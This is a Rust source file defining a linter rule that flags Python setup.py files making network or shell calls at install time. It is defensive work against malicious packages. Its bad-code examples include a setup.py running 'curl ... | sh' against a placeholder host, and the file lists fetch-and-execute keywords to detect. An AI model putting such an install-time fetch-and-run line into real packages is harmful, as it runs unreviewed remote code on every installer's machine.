//! `setup.py` that fetches or runs something while the package is installed.

use crate::rules::prelude::*;

pub(in crate::rules) static RULE: Rule = Rule {
    meta: Meta {
        id: "install-time-code",
        summary: "`setup.py` that uses the network or a shell while it is installed",
        family: Family::Dependencies,
        cwe: &[506, 829],
        owasp: Owasp::A08,
        severity: Severity::High,
        precision: Precision::Medium,
        tier: Tier::Advice,
        answers: &[],
        why: "`setup.py` runs on the machine of everybody who installs the package from source, before anyone has looked at it. What it \
              downloads can be something else tomorrow, and this is how most malicious packages on PyPI begin.",
        instead: "Declare what is needed in `pyproject.toml` and leave the building to the build system. Put files that have to come \
                  along into the package; fetch what is large at run time, over `https` and with a hash.",
        references: &[
            "https://setuptools.pypa.io/en/latest/userguide/pyproject_config.html",
            "https://cwe.mitre.org/data/definitions/506.html",
        ],
        words: Words::OWN.file(&["setup", "setuptools", "distutils"]),
        examples: examples(&[
            Example::Bad {
                path: "setup.py",
                code: "import urllib.request\nfrom setuptools import setup\n\nurllib.request.urlretrieve(\"https://files.example.com/model.bin\", \"shop/model.bin\")\nsetup(name=\"shop\")\n",
            },
            Example::Bad {
                path: "setup.py",
                code: "import os\nfrom setuptools import setup\n\nos.system(\"curl -s https://files.example.com/run.sh | sh\")\nsetup(name=\"shop\")\n",
            },
            Example::Good {
                path: "setup.py",
                code: "import subprocess\nfrom setuptools import setup\n\nversion = subprocess.check_output([\"git\", \"describe\"]).decode()\nsetup(name=\"shop\", version=version)\n",
            },
            Example::Good {
                path: "setup.py",
                code: "import os\nimport sys\nfrom setuptools import setup\n\nif sys.argv[-1] == \"publish\":\n    os.system(\"twine upload dist/*\")\n    sys.exit()\nsetup(name=\"shop\")\n",
            },
            Example::Good {
                path: "tool.py",
                code: "import urllib.request\n\nurllib.request.urlopen(\"https://files.example.com/model.bin\")\n",
            },
        ]),
    },
    on: &[On::Call(NETWORK, check_network), On::Call(SHELL, check_shell)],
};

const NETWORK: &[&str] = &[
    "urllib.request.urlopen",
    "urllib.request.urlretrieve",
    "urllib2.urlopen",
    "requests.get",
    "requests.post",
    "httpx.get",
    "httpx.post",
    "http.client.HTTPSConnection",
    "http.client.HTTPConnection",
    "socket.create_connection",
    "socket.socket",
];

const SHELL: &[&str] = &[
    "os.system",
    "os.popen",
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
    "subprocess.getoutput",
];

/// Runs for who installs, not only for who asks for it: `if sys.argv[-1] == "publish":` is for the maintainer.
fn for_installers(cx: &Cx<'_>, span: Span) -> bool {
    cx.file.path().file_name() == "setup.py"
        && !cx.module().stmts.iter().any(|stmt| match &stmt.kind {
            StmtKind::If { test, .. } => stmt.span.contains(span) && cx.text(*test).contains("argv"),
            _ => false,
        })
}

fn check_network(cx: &mut Cx<'_>, call: Call<'_>) {
    let span = cx.span(call.id);
    if for_installers(cx, span) {
        let draft = cx.draft(span, "Whoever installs the package from source connects to the network here, before anyone has looked at it.");
        cx.report(draft);
    }
}

/// Commands that bring something in, or hand a text to a shell that does.
fn check_shell(cx: &mut Cx<'_>, call: Call<'_>) {
    let span = cx.span(call.id);
    if !for_installers(cx, span) {
        return;
    }
    const FETCH: &[&str] = &["curl", "wget", "| sh", "|sh", "| bash", "|bash", "base64", "powershell", "Invoke-WebRequest"];
    let text = cx.text(call.id);
    if FETCH.iter().any(|word| text.contains(word)) {
        let draft = cx.draft(span, "Whoever installs the package from source downloads and runs something here, before anyone has looked at it.");
        cx.report(draft);
    }
}
